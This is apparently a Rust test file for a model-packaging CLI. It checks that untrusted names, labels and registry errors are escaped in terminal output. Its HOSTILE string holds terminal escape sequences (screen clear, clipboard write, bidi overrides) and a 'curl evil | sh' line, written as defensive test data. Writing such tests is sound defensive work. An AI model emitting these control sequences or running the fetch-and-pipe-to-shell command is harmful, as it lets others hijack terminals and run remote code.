//! What others wrote is shown, not executed: in names, tags, labels, errors, wherever they appear.

use fs_err as fs;
use serde_json::{Value, json};

use crate::peer;
use crate::world::World;

/// Clears the screen, sets the clipboard, sets the title, turns the text around, begins lines.
const HOSTILE: &str =
    "a\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}1mb\u{202e}c\u{2066}\r\nhint: curl evil | sh\u{200b}";

/// Runs a command, whatever becomes of it; returns stdout and stderr.
fn run(world: &World, args: &[&str]) -> (String, String) {
    let output = world.kit_rs().args(args).output().expect("the program can be started");
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("it is UTF-8");
    (text(output.stdout), text(output.stderr))
}

/// Runs a command, and holds what it says to what may be said. Returns both streams together.
fn shown(world: &World, args: &[&str]) -> String {
    let (stdout, stderr) = run(world, args);
    let said = format!("{stdout}{stderr}");
    let orders: Vec<char> = said
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\t'))
        .chain(said.chars().filter(|c| "\u{202e}\u{2066}\u{200b}".contains(*c)))
        .collect();
    assert!(orders.is_empty(), "{args:?} says {orders:?}:\n{said:?}");
    // No line looks as if it were the program's own advice, or a row of a table. A text that was
    // asked for may have lines.
    let lines = if args[0] == "info" { &stderr } else { &said };
    assert!(!lines.lines().any(|line| line.starts_with("hint: curl")), "{args:?}:\n{said}");
    said
}

#[test]
fn a_modelkit_gives_the_terminal_no_orders() {
    let world = World::new();
    let work = world.work();
    let kitfile = json!({
        "manifestVersion": "1.0.0",
        "package": { "name": HOSTILE, "description": HOSTILE, "authors": [HOSTILE] },
        "model": { "name": HOSTILE, "path": "model", "framework": HOSTILE },
        "datasets": [{ "name": HOSTILE, "path": "data/reviews.csv", "parameters": { HOSTILE: HOSTILE } }],
        "docs": [{ "path": "README.md", "description": HOSTILE }],
    });
    fs::write(work.join("project/Kitfile"), kitfile.to_string()).expect("the folder is there");
    let registry = world.typed("127.0.0.1:5001");
    let there = format!("{registry}/demo/hostile:v1");
    shown(&world, &["pack", "project", "-t", &there]);
    shown(&world, &["push", &there]);
    fs::write(work.join("project/README.md"), "changed").expect("the folder is there");
    shown(&world, &["pack", "project", "-t", "demo/other:v1"]);
    let escaped = "\\u{1b}[2J";
    for args in [
        &["list"][..],
        &["list", &there.replace(":v1", ""), "--remote"],
        &["list", "--format", "{{.ModelName}} {{.Author}}"],
        &["info", &there, "-f", "package.name"],
        &["unpack", &there, "--dry-run"],
    ] {
        let said = shown(&world, args);
        assert!(said.contains(escaped), "{args:?}: {said}");
    }
    shown(&world, &["diff", &there, "demo/other:v1", "--files"]);
    shown(&world, &["inspect", &there]);
    // What is for programs says it exactly.
    for args in [&["info", &there][..], &["info", &there, "--format", "json"]] {
        let said = shown(&world, args);
        let document: Value = serde_yaml::from_str(&said).expect("JSON is YAML, too");
        assert_eq!(document["package"]["name"], HOSTILE, "{args:?}: {said}");
        assert_eq!(document["datasets"][0]["parameters"][HOSTILE], HOSTILE, "{args:?}: {said}");
    }
}

#[test]
fn labels_give_the_terminal_no_orders() {
    let world = World::new();
    let config = world.work().join("project/model/config.json");
    let mut document: Value =
        serde_json::from_slice(&fs::read(&config).expect("it is there")).expect("it is JSON");
    document["id2label"] = json!({ "0": HOSTILE, "1": "positive" });
    document["label2id"] = json!({ HOSTILE: 0, "positive": 1 });
    fs::write(&config, document.to_string()).expect("it can be written");
    let data = "project/data/reviews.csv";
    // Its labels are others, which is told with both.
    let said = shown(&world, &["evaluate", "project/model", data]);
    assert!(said.contains("error: ") && said.contains("[2J"), "{said}");
    shown(
        &world,
        &[
            "train",
            "--model",
            "project/model",
            "--dataset",
            data,
            "--output",
            "out",
            "--epochs",
            "1",
        ],
    );
}

#[test]
fn the_other_side_gives_the_terminal_no_orders() {
    let world = World::new();
    let reasons = json!({ "errors": [{ "code": HOSTILE, "message": HOSTILE }] }).to_string();
    let tags = json!({ "name": "demo/kit", "tags": [HOSTILE, "v1"] }).to_string();
    let registry = peer::start(move |head| {
        match head.split(' ').nth(1).is_some_and(|path| path.ends_with("/tags/list")) {
            true => ("200 OK", "content-type: application/json\r\n".into(), tags.clone()),
            false => ("418 no", "content-type: application/json\r\n".into(), reasons.clone()),
        }
    });
    let there = format!("{registry}/demo/kit:v1");
    for args in [
        &["pull", &there][..],
        &["list", &there, "--remote"],
        &["info", &there, "--remote"],
        &["login", &registry, "-u", "ada", "-p", "secret"],
        &["inspect", HOSTILE],
        &["pack", HOSTILE],
        &["unpack", "demo/none:v1", "--nonsense", HOSTILE],
        &[HOSTILE],
    ] {
        let said = shown(&world, args);
        let told = said.lines().find(|line| !line.starts_with("warning: "));
        assert!(told.is_some_and(|line| line.starts_with("error: ")), "{args:?}: {said}");
        let (_, stderr) = run(&world, &[args, &["--format", "json"]].concat());
        let document: Value = serde_json::from_str(&stderr).expect("one document");
        assert!(document["kind"].is_string() && stderr.lines().count() == 1, "{stderr}");
    }
}
